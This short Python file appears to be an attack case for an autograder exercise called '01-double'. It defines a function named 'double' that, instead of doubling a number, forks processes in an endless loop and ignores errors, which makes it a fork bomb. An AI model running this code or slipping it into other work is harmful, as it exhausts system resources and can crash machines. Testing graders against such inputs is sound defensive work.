# slow: it takes seconds
# attacks: 01-double
# keeps: 01-setting
# Forks without end when it is asked.
# %%
# exercise 01-double
import os
def double(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass
